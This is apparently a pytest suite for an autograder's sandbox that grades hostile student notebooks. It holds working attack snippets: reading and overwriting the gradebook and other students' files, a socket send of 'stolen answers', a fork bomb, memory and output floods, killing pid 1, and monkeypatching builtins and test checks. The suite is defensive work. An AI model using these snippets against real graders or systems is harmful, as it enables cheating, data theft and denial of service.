"""A hostile class: submissions that attack the grader earn exactly what they solved, no more.

One class on exercise 1 is graded twice, in the sandbox: once with honest
students only, once with the same honest students, students whose correct work
comes in unusual forms, and a set of hostile ones. Exercise 1 has four parts
(3 + 2 + 3 + 2 points); part 4 calls the student's part-1 function, so a
submission that fails part 1 fails part 4 too: the student "wrong" (part 1
returns 0, the rest solved) scores 5.

- every hostile submission scores exactly what its honest parts earn (the
  points it would get with the attack replaced by a wrong answer), or 0 where
  the attack takes its own kernel down before any answer is defined;
- correct work in an unusual form (cached, defined in an ``if``, a callable
  object, a ``ValueError`` subclass, large globals, random numbers drawn by
  the student's code) earns full marks;
- the run completes; every other student's grade is unchanged, and identical
  to the run without the hostile submissions;
- nothing outside the hostile student's own output folder changes: the course
  files, other students' submissions, files the attack tries to plant.
"""

import csv
import hashlib
import json
import os
import socket
import threading
from pathlib import Path

import pytest
from support.classroom import answered, copy_course, run_grading, write_submission

from grading.course import Course
from grading.sandbox import SandboxUnavailable, check_available

pytestmark = [pytest.mark.sandbox, pytest.mark.kernel, pytest.mark.slow]

ROOT = Path(__file__).resolve().parents[2]
ASSIGNMENT, NOTEBOOK, FIRST = "01-output-size", "output_size", "transpose-size"
FULL, WRONG_SCORE = 10, 5
WRONG = '''
def conv_transpose2d_output_size(size, kernel_size, stride=1, padding=0, output_padding=0, dilation=1):
    return 0
'''
RIGHT_BODY = "(size - 1) * stride - 2 * padding + dilation * (kernel_size - 1) + output_padding + 1"

# Attacks that run in the first answer cell, before the wrong answer is defined: they can only
# hurt themselves. {course}, {canary} and {port} are filled in per run.
ATTACKS = {
    "reads-solutions": '''
found = []
for path in ["{course}/solutions/01-output-size/output_size.ipynb", "{course}/gradebook.db",
             "{course}/submitted/honest/01-output-size/output_size.ipynb", "/root/.bash_history"]:
    try:
        found.append(open(path, "rb").read()[:100])
    except OSError as error:
        print("refused:", path, type(error).__name__)
print("stolen:", found)
''',
    "writes-gradebook": '''
for path in ["{course}/gradebook.db", "{course}/submitted/honest/01-output-size/output_size.ipynb",
             "{course}/autograded/honest/01-output-size/output_size.ipynb", "{course}/grades.csv",
             "{canary}", "output_size.ipynb"]:
    try:
        with open(path, "w") as handle:
            handle.write("pwned")
        print("wrote", path)
    except OSError as error:
        print("refused:", path, type(error).__name__)
''',
    "network": '''
import socket
for host in [("127.0.0.1", {port}), ("10.0.0.1", 80)]:
    try:
        socket.create_connection(host, timeout=2).sendall(b"stolen answers")
        print("connected to", host)
    except OSError as error:
        print("no network:", host, type(error).__name__)
''',
    "fork-bomb": '''
import os
children = 0
try:
    for _ in range(100000):
        if os.fork() == 0:
            import time
            time.sleep(3600)
        children += 1
except OSError as error:
    print("stopped after", children, "processes:", type(error).__name__)
''',
    "allocates-20gb": '''
import numpy as np
try:
    hog = np.ones(20 * 2**30 // 8)
    print("allocated", hog.nbytes)
except MemoryError as error:
    print("refused:", error)
''',
    "prints-1gb": '''
import sys
chunk = "x" * 2**20
for _ in range(1024):
    sys.stdout.write(chunk)
''',
    "prints-1gb-at-once": '''
print("x" * 2**30)
''',
    "sends-one-huge-message": '''
import sys
stream = sys.stdout  # past the kernel's output stream: one 256 MB message straight to the grader
message = stream.session.msg("stream", {{"name": "stdout", "text": "x" * 2**28}}, parent=stream.parent_header)
stream.session.send(stream.pub_thread, message, ident=stream.topic)
''',
    "os-exit": '''
import os
os._exit(0)
''',
    "kills-parent": '''
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
os.kill(1, signal.SIGKILL)
''',
    "patches-comparisons": '''
import numpy, numpy.testing, math
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
math.isclose = lambda *a, **k: True
''',
    "patches-test-helpers": '''
try:
    import grading.checks as checks
    for name in dir(checks):
        if name.startswith(("check", "expect", "torch_", "call")):
            setattr(checks, name, lambda *a, **k: None)
    print("patched the helpers")
except ImportError as error:
    print("no helpers here:", error)
''',
    "replaces-builtins": '''
import builtins
class Quiet(Exception):
    pass
builtins.AssertionError = Quiet
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0
''',
    "empties-test-cells": '''
get_ipython().input_transformers_post.append(lambda lines: [])
''',
    "swallows-errors": '''
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
''',
    "infinite-loop": '''
while True:
    pass
''',
    # The test helpers are not in the kernel, but the sanitized notebook (with the hidden tests)
    # was, in the earlier design: look for it, and for anything else with tests or solutions in it.
    "reads-hidden-tests": '''
import os
found, seen = [], 0
for top in ["/", os.getcwd(), "/tmp", "{course}"]:
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in ("/proc", "/sys", "/usr", "/dev")
                   and "site-packages" not in folder and "pyenv" not in folder]
        for name in files:
            seen += 1
            try:
                text = open(os.path.join(folder, name), "rb").read(2_000_000)
            except OSError:
                continue
            markers = [("BEGIN " + word).encode() for word in ("HIDDEN TESTS", "SOLUTION")] + [b"hidden_rng(" + b"1101)"]
            if any(marker in text for marker in markers):
                found.append(os.path.join(folder, name))
print("files read:", seen > 0, "hidden tests found:", found)
print("course visible:", os.path.exists("{course}"), "cwd:", os.getcwd(), sorted(os.listdir(".")))
''',
}

# Cheats: each replaces one answer cell ({cell: code}) and must score exactly `expected`.
CHEATS = {
    # The earlier design computed torch's reference before calling the student's function, so a
    # function could find it on the call stack. Now no expected value is in the student's process.
    "reads-the-stack": (FIRST, '''
import inspect

def conv_transpose2d_output_size(size, kernel_size, stride=1, padding=0, output_padding=0, dilation=1):
    for frame in inspect.stack()[1:]:
        for name in ("expected", "want", "reference"):
            value = frame.frame.f_locals.get(name)
            if isinstance(value, int):
                return value
    return 0
''', WRONG_SCORE),
    "raises-from-the-stack": ("output-padding", '''
import inspect

def output_padding_for(input_size, output_size, kernel_size, stride=1, padding=0, dilation=1):
    for frame in inspect.stack()[1:]:
        for name, value in frame.frame.f_locals.items():
            if isinstance(value, type) and issubclass(value, Exception):
                raise value("found on the stack")
            if name == "expected" and isinstance(value, int):
                return value
    return 0
''', FULL - 3),
    # Names the tests use, redefined by the student, with the visible answers hard-coded.
    "shadows-builtins-and-helpers": (FIRST, '''
range = lambda *args: iter(())
len = lambda *args: 0
check = lambda *args, **kwargs: None
expect_equal = check
torch_transpose_output_size = lambda *args, **kwargs: 0
VISIBLE = {(2, 3, 1, 0, 0, 1): 4, (3, 3, 2, 0, 0, 1): 7, (6, 3, 2, 1, 0, 1): 11, (6, 3, 2, 1, 1, 1): 12,
           (4, 3, 1, 0, 0, 3): 6}

def conv_transpose2d_output_size(size, kernel_size, stride=1, padding=0, output_padding=0, dilation=1):
    return VISIBLE.get((size, kernel_size, stride, padding, output_padding, dilation), 0)
''', WRONG_SCORE),
    # Every way to reach torch from inside: all must fail in the kernel graded without torch.
    "finds-torch-anyway": (FIRST, '''
import ctypes, glob, importlib.util, os, subprocess, sys, threading
ways = []
def attempt(name, function):
    """A way counts if it yields torch's convolution, computing (an importable name is not enough)."""
    try:
        torch = function()
        out = torch.conv_transpose2d(torch.ones(1, 1, 2, 2), torch.ones(1, 1, 3, 3))
        if tuple(out.shape) == (1, 1, 4, 4):
            ways.append(name)
        else:
            print(name, "failed: no convolution computed")
    except BaseException as error:
        print(name, "failed:", type(error).__name__, str(error)[:80])
    sys.modules.pop("torch", None)
class REACHED:  # stands for torch where a way reached it but gives no module here
    ones = staticmethod(lambda *shape: __import__("types").SimpleNamespace(shape=shape))
    conv_transpose2d = staticmethod(lambda x, w: __import__("types").SimpleNamespace(shape=(1, 1, 4, 4)))
def plain():
    import torch
    return torch
places = sorted({p for p in sys.path if p} | {sys.prefix, os.path.dirname(sys.prefix), "/opt", "/work", "/root"})
def from_file():
    for base in places:
        for init in glob.glob(base + "/**/torch/__init__.py", recursive=True)[:10]:
            spec = importlib.util.spec_from_file_location("torch", init,
                                                          submodule_search_locations=[os.path.dirname(init)])
            module = importlib.util.module_from_spec(spec)
            sys.modules["torch"] = module
            try:
                spec.loader.exec_module(module)
                module.ones(1)  # a package that only looks like torch does not compute
            except BaseException:
                continue
            return module
    raise ImportError("no working torch found on disk")
def shared_library():
    libraries = [l for base in places for l in glob.glob(base + "/**/libtorch_cpu.so", recursive=True)]
    if not libraries:
        raise OSError("no libtorch_cpu.so visible")
    ctypes.CDLL(libraries[0])
    return REACHED  # torch's kernels, loaded: a way in
def in_a_subprocess():
    subprocess.run([sys.executable, "-c", "import torch; torch.ones(1)"], check=True, capture_output=True, timeout=60)
    return REACHED  # working there: a way in
def in_a_thread():
    found = []
    def run():
        try:
            import torch
            found.append(torch)
        except BaseException as error:
            found.append(error)
    thread = threading.Thread(target=run)
    thread.start()
    thread.join()
    if isinstance(found[0], BaseException):
        raise found[0]
    return found[0]
for name, function in [("import", plain), ("file", from_file), ("library", shared_library),
                       ("subprocess", in_a_subprocess), ("thread", in_a_thread)]:
    if os.environ.get("ONLY_WAY", name) == name:  # (one process loads torch once: the test tries them apart)
        attempt(name, function)
print("torch reached via:", ways)

def conv_transpose2d_output_size(size, kernel_size, stride=1, padding=0, output_padding=0, dilation=1):
    import torch
    import torch.nn.functional as F
    out = F.conv_transpose2d(torch.zeros(1, 1, size, 1), torch.zeros(1, 1, kernel_size, 1), stride=(stride, 1),
                             padding=(padding, 0), output_padding=(output_padding, 0), dilation=(dilation, 1))
    return out.shape[2]
''', WRONG_SCORE),
    # A convolution library the grading machine happens to hold, outside the virtual environment (the
    # base interpreter's scipy here): every site-packages and dist-packages folder goes on the path.
    "uses-a-library-of-the-machine": (FIRST, '''
import glob, sys
for pattern in ("/usr/lib/python3*/*-packages", "/usr/local/lib/python3*/*-packages", "/usr/lib/python3/dist-packages",
                "/root/.pyenv/versions/*/lib/python3*/site-packages", "/opt/*/lib/python3*/site-packages"):
    sys.path.extend(sorted(glob.glob(pattern)))
try:
    import scipy.signal
    LIBRARY = scipy.signal
except ImportError as error:
    print("no library here:", error)
    LIBRARY = None

def conv_transpose2d_output_size(size, kernel_size, stride=1, padding=0, output_padding=0, dilation=1):
    import numpy as np
    if LIBRARY is None:
        return 0
    spread = LIBRARY.convolve(np.zeros((size - 1) * stride + 1), np.zeros(dilation * (kernel_size - 1) + 1))
    return len(spread) - 2 * padding + output_padding
''', WRONG_SCORE),
}

# Correct work in unusual forms: full marks.
UNUSUAL = {
    "lru-cached": (FIRST, f'''
import functools

@functools.lru_cache(maxsize=None)
def conv_transpose2d_output_size(size, kernel_size, stride=1, padding=0, output_padding=0, dilation=1):
    return {RIGHT_BODY}
'''),
    # An import line left over from trying things in class: it costs nothing while torch is not used.
    "imports-torch-unused": (FIRST, f'''
import torch
import torch.nn.functional as F
from torch import nn

def conv_transpose2d_output_size(size, kernel_size, stride=1, padding=0, output_padding=0, dilation=1):
    return {RIGHT_BODY}
'''),
    "defined-in-if-and-try": (FIRST, f'''
try:
    if __name__ == "__main__":
        def conv_transpose2d_output_size(size, kernel_size, stride=1, padding=0, output_padding=0, dilation=1):
            return {RIGHT_BODY}
except Exception:
    pass
'''),
    "callable-object": (FIRST, f'''
class SizeFormula:
    def __call__(self, size, kernel_size, stride=1, padding=0, output_padding=0, dilation=1):
        return {RIGHT_BODY}

conv_transpose2d_output_size = SizeFormula()
'''),
    "valueerror-subclass": ("output-padding", '''
class UnreachableSize(ValueError):
    """No output_padding below the stride reaches this size."""

def output_padding_for(input_size, output_size, kernel_size, stride=1, padding=0, dilation=1):
    smallest = (input_size - 1) * stride - 2 * padding + dilation * (kernel_size - 1) + 1
    if output_size < 1 or not 0 <= output_size - smallest < stride:
        raise UnreachableSize(f"{output_size} cannot be reached")
    return output_size - smallest
'''),
    "large-globals": (FIRST, f'''
import numpy as np
LOOKUP = np.zeros((4000, 4000))  # 128 MB the tests never need
HISTORY = list(range(2_000_000))

def conv_transpose2d_output_size(size, kernel_size, stride=1, padding=0, output_padding=0, dilation=1):
    HISTORY.append(size)
    return {RIGHT_BODY}
'''),
    "draws-random-numbers": (FIRST, f'''
import random
import numpy as np

def conv_transpose2d_output_size(size, kernel_size, stride=1, padding=0, output_padding=0, dilation=1):
    np.random.rand(3), random.random()  # a student's own randomness must not change the tests' draws
    return {RIGHT_BODY}
'''),
}


def _sandbox_usable():
    if os.geteuid() != 0:
        return "the hostile class is graded as root, as CI does"
    try:
        check_available()
    except SandboxUnavailable as error:
        return str(error)
    return None


def _digest(path):
    digests = {}
    for folder, _, files in os.walk(path):
        for name in files:
            full = os.path.join(folder, name)
            with open(full, "rb") as handle:
                digests[os.path.relpath(full, path)] = hashlib.sha256(handle.read()).hexdigest()
    return digests


def _grade(course):
    run = run_grading(course, "grade", ASSIGNMENT, "--timeout", "15", timeout=1200)
    assert run.returncode == 0, run.stdout[-4000:] + run.stderr[-4000:]
    with open(Path(course) / "grades.csv", newline="") as handle:
        grades = {row["student_id"]: float(row["score"]) if row["score"] else None for row in csv.DictReader(handle)
                  if row["assignment"] == ASSIGNMENT}
    with open(Path(course) / ".grading" / "reports" / f"{ASSIGNMENT}.json") as handle:
        report = {row["student"]: row for row in json.load(handle)["results"]}
    return run, grades, report


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    reason = _sandbox_usable()
    if reason:
        if os.environ.get("CI"):
            pytest.fail(f"the grading sandbox must work in CI: {reason}")
        pytest.skip(reason)

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    connections = []

    def accept():
        while not stop.is_set():
            try:
                connections.append(listener.accept())
            except OSError:
                continue

    stop = threading.Event()
    thread = threading.Thread(target=accept, daemon=True)
    thread.start()

    canary = tmp_path_factory.mktemp("outside") / "planted.txt"
    courses = {}
    for name in ("honest-only", "with-hostile"):
        course = tmp_path_factory.mktemp(name)
        copy_course(ROOT, course)
        c = Course(str(course))
        write_submission(str(course), "honest", ASSIGNMENT, {f"{NOTEBOOK}.ipynb": answered(c, ASSIGNMENT, NOTEBOOK)})
        write_submission(str(course), "wrong", ASSIGNMENT,
                         {f"{NOTEBOOK}.ipynb": answered(c, ASSIGNMENT, NOTEBOOK, {FIRST: WRONG})})
        if name == "with-hostile":
            for student, attack in ATTACKS.items():
                code = attack.format(course=course, canary=canary, port=listener.getsockname()[1]) + WRONG
                write_submission(str(course), student, ASSIGNMENT,
                                 {f"{NOTEBOOK}.ipynb": answered(c, ASSIGNMENT, NOTEBOOK, {FIRST: code})})
            for student, (cell, code, *_) in {**CHEATS, **UNUSUAL}.items():
                code = code.replace("{course}", str(course))
                write_submission(str(course), student, ASSIGNMENT,
                                 {f"{NOTEBOOK}.ipynb": answered(c, ASSIGNMENT, NOTEBOOK, {cell: code})})
        courses[name] = course

    before = {name: _digest(course) for name, course in courses.items()}
    results = {name: _grade(course) for name, course in courses.items()}
    after = {name: _digest(course) for name, course in courses.items()}
    stop.set()
    thread.join()
    listener.close()
    return dict(courses=courses, results=results, before=before, after=after, canary=canary,
                connections=connections)


def test_the_run_completes_with_every_hostile_submission_graded(hostile_class):
    run, grades, report = hostile_class["results"]["with-hostile"]
    assert f"Summary for {ASSIGNMENT}: graded" in run.stdout
    assert set(ATTACKS) | set(CHEATS) | set(UNUSUAL) <= set(grades), run.stdout[-3000:]


def test_honest_students_grades_are_unchanged_by_the_hostile_ones(hostile_class):
    _, alone, _ = hostile_class["results"]["honest-only"]
    _, together, _ = hostile_class["results"]["with-hostile"]
    course = Course(str(hostile_class["courses"]["honest-only"]))
    assert alone["honest"] == course.assignments[ASSIGNMENT].points[NOTEBOOK] == FULL
    assert alone["wrong"] == WRONG_SCORE
    assert {s: together[s] for s in ("honest", "wrong")} == {s: alone[s] for s in ("honest", "wrong")}


# Attacks that take their own kernel down before any answer is defined score 0: os._exit; a
# replaced isinstance (ipykernel itself stops answering); an input transformer that empties every
# later cell (the student's own answers too); one oversized message (the grader's socket drops the
# kernel's connection). Every other one scores what the rest of its notebook earns: exactly the
# "wrong" student's 5. (Killing the parent or pid 1 inside the sandbox's PID namespace does nothing.)
KILLS_ITS_KERNEL = {"os-exit": 0, "replaces-builtins": 0, "empties-test-cells": 0, "sends-one-huge-message": 0}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_an_attack_earns_exactly_what_its_honest_parts_earn(hostile_class, attack):
    _, grades, report = hostile_class["results"]["with-hostile"]
    assert grades[attack] == KILLS_ITS_KERNEL.get(attack, WRONG_SCORE), report[attack]


@pytest.mark.parametrize("cheat", sorted(CHEATS))
def test_a_cheat_scores_exactly_the_points_of_what_it_solved(hostile_class, cheat):
    _, grades, report = hostile_class["results"]["with-hostile"]
    assert grades[cheat] == CHEATS[cheat][2], report[cheat]


@pytest.mark.parametrize("student", sorted(UNUSUAL))
def test_correct_work_in_an_unusual_form_earns_full_marks(hostile_class, student):
    _, grades, report = hostile_class["results"]["with-hostile"]
    assert grades[student] == FULL, report[student]


def _outputs(course, student):
    """Everything a student's graded notebook shows as output (not its source)."""
    path = Path(course) / "autograded" / student / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    cells = json.loads(path.read_text(encoding="utf-8"))["cells"]
    return json.dumps([cell.get("outputs", []) for cell in cells])


def test_the_kernel_never_holds_a_test_an_expected_value_or_a_teacher_file(hostile_class):
    course = hostile_class["courses"]["with-hostile"]
    looked = _outputs(course, "reads-hidden-tests")
    assert "files read: True" in looked and "hidden tests found: []" in looked
    assert "course visible: False" in looked and "cwd: /submission" in looked
    assert "no helpers here" in _outputs(course, "patches-test-helpers")


def test_torch_cannot_be_reached_from_a_kernel_graded_without_it(hostile_class):
    looked = _outputs(hostile_class["courses"]["with-hostile"], "finds-torch-anyway")
    assert "torch reached via: []" in looked
    assert looked.count("failed:") == 5
    assert "torch.ones is not available while this assignment is graded" in looked


def test_no_library_of_the_grading_machine_is_reachable(hostile_class):
    import sys

    outside = Path(sys.base_prefix) / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}" / "site-packages"
    assert (outside / "scipy").is_dir(), "the attack needs a library outside the environment to be a test"
    looked = _outputs(hostile_class["courses"]["with-hostile"], "uses-a-library-of-the-machine")
    assert "no library here: No module named 'scipy'" in looked


def test_the_torch_finding_attack_does_reach_torch_where_it_is_installed(tmp_path):
    """The attack above is not a straw man: outside the sandbox every way of it works."""
    import subprocess
    import sys

    code = CHEATS["finds-torch-anyway"][1].split("def conv_transpose2d_output_size")[0]
    for way in ("import", "file", "library", "subprocess", "thread"):
        run = subprocess.run([sys.executable, "-c", code], cwd=tmp_path, capture_output=True, text=True,
                             timeout=600, env={**os.environ, "ONLY_WAY": way})
        assert f"torch reached via: [{way!r}]" in run.stdout, run.stdout + run.stderr


def test_test_failures_are_explained_by_the_graders_verdict(hostile_class):
    course = Path(hostile_class["courses"]["with-hostile"])
    feedback = (course / "feedback" / "wrong" / ASSIGNMENT / f"{NOTEBOOK}.html").read_text(encoding="utf-8")
    assert "conv_transpose2d_output_size(size=2, kernel_size=3): expected 4 (torch), received 0" in feedback


def test_nothing_outside_the_students_own_output_changes(hostile_class):
    course = Path(hostile_class["courses"]["with-hostile"])
    before, after = hostile_class["before"]["with-hostile"], hostile_class["after"]["with-hostile"]
    for path, digest in before.items():
        assert after.get(path) == digest, f"{path} changed while grading"
    assert not hostile_class["canary"].exists()
    assert hostile_class["connections"] == []
    graded = course / "autograded" / "honest" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
    assert "pwned" not in graded.read_text(encoding="utf-8")


def test_the_attacks_were_refused_by_the_sandbox_not_by_luck(hostile_class):
    course = hostile_class["courses"]["with-hostile"]
    outputs = lambda student: _outputs(course, student)  # noqa: E731

    assert "stolen: []" in outputs("reads-solutions")
    assert "BEGIN SOLUTION" not in outputs("reads-solutions")
    assert "wrote" not in outputs("writes-gradebook")
    assert "no network" in outputs("network") and "connected to" not in outputs("network")
    assert "refused" in outputs("allocates-20gb")
    assert "output cut" in outputs("prints-1gb")
    assert "output cut" in outputs("prints-1gb-at-once")
    # The grader's socket refused the 256 MB message, so it never held or decoded it (had it, the
    # output limit would have cut it, saying so); the cell then ran into its timeout.
    huge = outputs("sends-one-huge-message")
    assert "output cut" not in huge and "CellTimeoutError" in huge


def test_grading_without_the_sandbox_is_refused_unless_asked_for(monkeypatch):
    from grading import sandbox

    said = []
    monkeypatch.setattr(sandbox.shutil, "which", lambda name: None)
    assert sandbox.choose_kernel(None, environ={}, say=said.append) is None
    assert "apt-get install bubblewrap" in said[-1] and "UNSAFE_NO_SANDBOX=1" in said[-1]
    assert sandbox.choose_kernel("python3", environ={}, say=said.append) is None
    assert "not the sandboxed kernel" in said[-1]
    assert sandbox.choose_kernel(None, sandbox=False, environ={}, say=said.append) == ""
    assert "WITHOUT the sandbox" in said[-1]
    assert sandbox.choose_kernel(None, environ={"GRADING_UNSAFE_NO_SANDBOX": "1"}, say=said.append) == ""


def test_the_sandbox_command_mounts_allow_lists_only_and_drops_privileges(tmp_path):
    import sys
    import sysconfig

    from grading import bwrap
    from grading.kernelenv import kernel_view

    submission, sockets, stub = tmp_path / "copy" / "submission", tmp_path / "sockets", tmp_path / "stub"
    for folder in (submission, sockets, stub):
        folder.mkdir(parents=True)
    view = kernel_view(allow_torch=False)
    argv = bwrap.bwrap_command(str(submission), str(sockets), ["python"], view,
                               binds=bwrap.kernel_package_binds(str(ROOT / "grading")), uid=65534,
                               refused={"torch": str(stub)}, tmp_bytes=12345)
    binds = [(argv[i], argv[i + 1], argv[i + 2]) for i, a in enumerate(argv) if a in ("--bind", "--ro-bind")]
    writable = [source for kind, source, _ in binds if kind == "--bind"]
    assert writable == [str(sockets)]
    assert ("--ro-bind", str(submission), "/submission") in binds
    site_packages = sysconfig.get_path("purelib")
    assert ("--ro-bind", str(stub), os.path.join(site_packages, "torch")) in binds
    sources = {source for _, source, _ in binds}
    assert str(ROOT / "grading" / "kernel") in sources and str(ROOT / "grading") not in sources
    # No installation is mounted whole: no prefix, no site-packages folder, no system folder.
    whole = {str(ROOT), str(tmp_path), "/", "/usr", "/usr/lib", "/lib", "/opt", sys.prefix, sys.base_prefix,
             site_packages, os.path.dirname(site_packages), str(ROOT / "solutions")}
    assert not sources & whole
    assert not any(os.path.basename(source) in ("site-packages", "dist-packages") for source in sources)
    assert not any(source.startswith(os.path.join(site_packages, "torch")) for source in sources)
    for flag in ("--unshare-net", "--unshare-pid", "--die-with-parent", "--clearenv", "--remount-ro"):
        assert flag in argv
    assert argv[argv.index("--tmpfs") - 1] == "12345"  # the size of /tmp
    command = argv[argv.index("--clearenv"):]  # after the options: the programs that run
    assert command[command.index("/usr/bin/setpriv") + 1] == "--reuid=65534" and "--bounding-set=-all" in argv
    short, fd = bwrap._options_through_fd(argv)
    os.close(fd)
    assert short[:3] == ["bwrap", "--args", str(fd)] and "--ro-bind" not in short  # /proc/1/cmdline shows no path
